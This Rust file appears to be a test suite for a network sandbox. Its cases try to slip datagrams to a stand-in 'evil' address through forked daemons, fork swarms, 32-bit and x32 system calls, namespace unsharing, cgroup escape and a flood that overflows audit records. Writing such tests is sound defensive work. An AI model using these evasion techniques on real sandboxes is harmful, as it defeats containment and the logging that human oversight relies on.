//! Processes, time, namespaces and numbers: what a job does with what it is allowed.

use std::net::SocketAddr;
use std::thread::{sleep, spawn};
use std::time::Duration;

use nix::errno::Errno;
use nix::sched::{CloneFlags, unshare};

use crate::escape::case::{Case, Refused, Targets, Unrecorded, at as failed, by, io_at};
use crate::escape::packet::{Dns, dns};
use crate::escape::{ALLOWED_PORT, SHORT_NAME, sys};
use crate::harness::network::{DNS_V4, EVIL_V4, OTHER_V4, at};

type Result = std::result::Result<(), Refused>;

const NO_CGROUP: &[Unrecorded] = &[by("mount namespace", "open", Errno::EROFS)];

pub(super) const CASES: &[Case] = &[
    Case::new(
        "lease-expired",
        &["G23"],
        "A new connection to an allowed name's address when the answer has run out.",
        |targets| {
            let ask = dns(Dns {
                flags: 0x0100,
                questions: 1,
                labels: &SHORT_NAME.split('.').collect::<Vec<_>>(),
            });
            let resolver = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
            sys::connect(&resolver, &sys::address(at(DNS_V4, 53)))?;
            sys::send(&resolver, &ask, 0)?;
            sys::recv(&resolver, &mut [0; 512])?;
            let to = sys::address(at(OTHER_V4, ALLOWED_PORT));
            let live = sys::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
            sys::connect(&live, &to)?;
            sleep(Duration::from_millis(2500));
            let late = sys::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
            sys::from_own_port(&late, targets.port())?;
            sys::connect(&late, &to)
        },
    ),
    Case::new(
        "lease-without-asking",
        &["G22"],
        "The address of an allowed name, with a wrong port of it.",
        |targets| datagram(at(OTHER_V4, ALLOWED_PORT), targets),
    ),
    Case::new(
        "thread",
        &["G40"],
        "Another thread of the process connects.",
        |targets| {
            let targets = targets.clone();
            let other = spawn(move || datagram(targets.at(EVIL_V4), &targets));
            other
                .join()
                .unwrap_or_else(|_panic| Err(failed("pthread_join")(Errno::EINVAL)))
        },
    ),
    Case::new(
        "double-fork-setsid",
        &["G36"],
        "A daemon: two forks, a session of its own, and it sends when its parents are gone.",
        |targets| {
            let child = sys::forked(|| {
                nix::unistd::setsid().map_err(failed("setsid"))?;
                sys::forked(|| {
                    sleep(Duration::from_millis(100));
                    datagram(targets.at(EVIL_V4), targets)
                })
            })?;
            sys::wait(child)?;
            sleep(Duration::from_millis(400));
            Ok(())
        },
    ),
    Case::new(
        "fork-swarm",
        &["G33"],
        "A hundred processes that each send once and end.",
        |targets| {
            let mut children = Vec::new();
            for _ in 0..100 {
                children.push(sys::forked(|| datagram(targets.at(EVIL_V4), targets))?);
            }
            children.into_iter().try_for_each(sys::wait)
        },
    ),
    Case::new(
        "compat-int80",
        &["G40"],
        "32-bit system calls from a 64-bit program.",
        |targets| {
            let to = sys::address(targets.at(EVIL_V4));
            sys::compat::datagram(targets.tag().as_bytes(), &to)
        },
    )
    .stopped_by(&[by("seccomp", "int 0x80 socket", Errno::EPERM)]),
    Case::new(
        "compat-x32",
        &["G40"],
        "System calls by their x32 numbers.",
        |targets| {
            let to = sys::address(targets.at(EVIL_V4));
            sys::compat::x32_datagram(targets.tag().as_bytes(), &to)
        },
    )
    .stopped_by(&[by("seccomp", "x32 socket", Errno::EPERM)]),
    Case::new(
        "userns-kept-socket",
        &["G17"],
        "A socket of the host's network, used after a user and network namespace of one's own.",
        |targets| {
            let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
            let flags = CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNET;
            unshare(flags).map_err(failed("unshare"))?;
            let to = sys::address(targets.at(EVIL_V4));
            sys::sendto(&socket, targets.tag().as_bytes(), 0, &to).map(drop)
        },
    ),
    Case::new(
        "cgroupns-datagram",
        &["G16"],
        "A user and cgroup namespace of one's own, then a datagram.",
        |targets| {
            let flags = CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWCGROUP;
            unshare(flags).map_err(failed("unshare"))?;
            datagram(targets.at(EVIL_V4), targets)
        },
    )
    // For root, where BPF LSM does not judge mounts; the datagram of others is denied.
    .stopped_by(&[by("seccomp", "unshare", Errno::EPERM)]),
    Case::new(
        "userns-host-netns",
        &["G05", "G17"],
        "A user namespace of one's own for CAP_NET_RAW, then a raw socket on the host's network.",
        |targets| {
            unshare(CloneFlags::CLONE_NEWUSER).map_err(failed("unshare"))?;
            let socket = sys::socket(libc::AF_INET, libc::SOCK_RAW, 253)?;
            let to = sys::address(targets.at(EVIL_V4));
            sys::sendto(&socket, targets.tag().as_bytes(), 0, &to).map(drop)
        },
    ),
    Case::new(
        "cgroup-write",
        &["G16"],
        "Moves itself out of the job by the file system of cgroups.",
        |targets| {
            let group = std::fs::read_to_string(targets.directory.join("other-cgroup"))
                .map_err(io_at("read"))?;
            let mut procs = std::fs::File::options()
                .write(true)
                .open(format!("{group}/cgroup.procs"))
                .map_err(io_at("open"))?;
            std::io::Write::write_all(&mut procs, b"0").map_err(io_at("write"))?;
            datagram(targets.at(EVIL_V4), targets)
        },
    )
    .stopped_by(NO_CGROUP),
];

/// Last of all: it fills the ring of records.
pub(super) const NOISE: &[Case] = &[Case::new(
    "flood",
    &["G33"],
    "Thousands of refused datagrams, so that records are lost, then one more.",
    |targets| {
        let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
        let to = sys::address(targets.at(EVIL_V4));
        for _ in 0..3000 {
            // Refused, or not: the number is what counts.
            let _sent = sys::sendto(&socket, b"noise", libc::MSG_DONTWAIT, &to);
        }
        datagram(targets.at(EVIL_V4), targets)
    },
)];

fn datagram(to: SocketAddr, targets: &Targets) -> Result {
    let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    sys::sendto(&socket, targets.tag().as_bytes(), 0, &sys::address(to)).map(drop)
}
